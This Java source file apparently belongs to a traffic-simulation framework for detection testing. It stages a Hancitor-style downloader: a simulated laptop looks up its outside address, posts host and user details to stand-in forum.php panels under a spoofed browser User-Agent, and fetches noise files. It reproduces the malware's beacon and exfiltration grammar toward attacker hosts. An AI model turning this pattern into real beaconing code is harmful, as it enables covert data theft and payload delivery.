package wolfhound.scenarios;

import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Answer;
import wolfhound.scenarios.stage.Ask;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Stage;
import wolfhound.scenarios.stage.Web;

/// A downloader that asks for the machine's outside address, reports who and where it is in one
/// form under a browser's name, and fetches sealed files that the coded answer named (published
/// grammar of Hancitor).
final class Hancitor extends Guilty {
    private static final String MASK =
            "User-Agent: Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko";

    Hancitor() {
        super(
                "hancitor",
                "Hancitor",
                "A laptop asks for its outside address, reports itself and fetches sealed files",
                "An inventory of the machine under a browser's name goes to a forum that is none");
    }

    @Override
    public void stage(Stage stage) {
        Actor laptop = stage.workstation("laptop", Platform.WINDOWS);
        laptop.joins().isInfected(Behaviour.CALLBACK).pauses(4);
        Web.to(laptop, "api.ipify.org")
                .asks(
                        Ask.get("/").with("Accept: */*", MASK, "Host", "Cache-Control: no-cache"),
                        Answer.ok("text/plain", "198.51.100.77"))
                .closes();
        laptop.pauses(1);
        String first = stage.word(10) + ".example";
        String second = stage.word(10) + ".test";
        String form = form(stage, laptop);
        int rounds = stage.between(2, 4);
        for (int i = 0; i < rounds; i++) {
            String panel = i % 2 == 0 ? first : second;
            Ask report =
                    Ask.post("/" + stage.oneOf("4", "8", "ls5") + "/forum.php", form)
                            .with("Accept: */*", "Content-Type: application/x-www-form-urlencoded")
                            .with(MASK, "Host", "Content-Length", "Cache-Control: no-cache");
            String order = stage.letters(4, "ABCDEFGHIJKLMNOP") + base64(stage.noise(150));
            Web.to(laptop, panel).asks(report, Answer.ok("text/html", order)).closes();
            laptop.pauses(4);
            Ask fetch = Ask.get("/" + stage.between(1, 9)).with("Accept: */*", MASK, "Host");
            Web.to(laptop, stage.word(9) + ".example")
                    .asks(fetch, Answer.ok("text/plain", stage.noise(40_000)))
                    .closes();
            laptop.pauses(60);
        }
    }

    private static String base64(byte[] bytes) {
        return java.util.Base64.getEncoder().encodeToString(bytes);
    }

    private static String form(Stage stage, Actor laptop) {
        return "GUID="
                + stage.letters(20, "0123456789")
                + "&BUILD="
                + stage.between(1000, 9999)
                + "_"
                + stage.word(6)
                + "&INFO="
                + laptop.machine().hostName()
                + " @ "
                + laptop.machine().hostName()
                + "\\"
                + laptop.machine().userName()
                + "&IP=198.51.100.77&TYPE=1&WIN=6.1(x64)";
    }
}
